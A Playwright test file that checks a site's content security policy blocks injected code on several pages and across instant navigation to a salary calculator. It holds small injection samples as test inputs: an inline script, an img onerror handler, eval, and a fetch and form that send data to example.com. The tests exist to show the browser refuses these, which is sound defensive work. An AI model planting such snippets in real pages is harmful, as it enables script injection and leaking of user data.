"""The content policy as the browser enforces it: in a page, a worker, and from page to page."""

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Watch
from tests.browser.person import Person, follow, wait_for_form
from tests.server import SiteServer


def _violation(code: str) -> str:
    """Write a function that runs some code, and tells which part of the policy it violates."""
    return f"""() => new Promise((told) => {{
        addEventListener('securitypolicyviolation', (it) => told(it.effectiveDirective))
        {code}
    }})"""


PAGES = ("guide/", "calculators/counter-offer/", "404.html")
# Each is what somebody's code in the page would try, and what the browser says.
FORBIDDEN = {
    "inline script": _violation("""
        const script = document.createElement('script')
        script.textContent = 'window.owned = 1'
        document.body.append(script)
    """),
    "handler": _violation("""
        const picture = '<img src="data:," onerror="window.owned = 1">'
        document.body.insertAdjacentHTML('beforeend', picture)
    """),
    # In a task of its own: the tests' own way in may do what the page may not.
    "eval": """() => new Promise((told) => setTimeout(() => {
        try { told(String(new Function('owned = 1')())) } catch (error) { told(error.name) }
    }))""",
    "WebAssembly": """() => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))
        .then(() => 'compiled', (error) => error.name)""",
    "request elsewhere": _violation("""
        fetch('https://example.com/?salary=100000').catch(() => 0)
    """),
    "script from elsewhere": _violation("""
        const script = document.createElement('script')
        script.src = 'data:text/javascript,window.owned=1'
        document.body.append(script)
    """),
    "frame": _violation("""
        const frame = document.createElement('iframe')
        frame.src = 'https://example.com/'
        document.body.append(frame)
    """),
    "form": _violation("""
        const form = document.createElement('form')
        form.action = 'https://example.com/'
        document.body.append(form)
        form.submit()
    """),
}
SAYS = {
    "inline script": "script-src-elem",
    "handler": "script-src-attr",
    "eval": "EvalError",
    "WebAssembly": "CompileError",
    "request elsewhere": "connect-src",
    "script from elsewhere": "script-src-elem",
    "frame": "frame-src",
    "form": "form-action",
}


@pytest.mark.parametrize("address", PAGES)
def test_page_may_not(page: Page, server: SiteServer, watch: Watch, address: str) -> None:
    """Whatever got into a page could neither run nor reach anybody."""
    watch.expects_errors = True
    page.goto(server.address + address)
    assert {what: page.evaluate(code) for what, code in FORBIDDEN.items()} == SAYS
    assert page.evaluate("window.owned") is None


def test_calculator_answers_behind_a_page_that_has_none(
    newcomer: Callable[..., Page], server: SiteServer
) -> None:
    """With instant navigation the first page's document stays, and its policy with it."""
    page = newcomer()
    page.goto(server.address + "privacy/")
    page.evaluate("window.same = true")
    follow(page, "calculators/counter-offer/")
    person = Person(page, server.address + "calculators/counter-offer/")
    wait_for_form(person.calculator)
    person.type("target", "112k")
    expect(person.figure("ask")).to_have_text("$124,000")
    assert page.evaluate("window.same") is True
    assert page.evaluate(FORBIDDEN["WebAssembly"]) == SAYS["WebAssembly"]
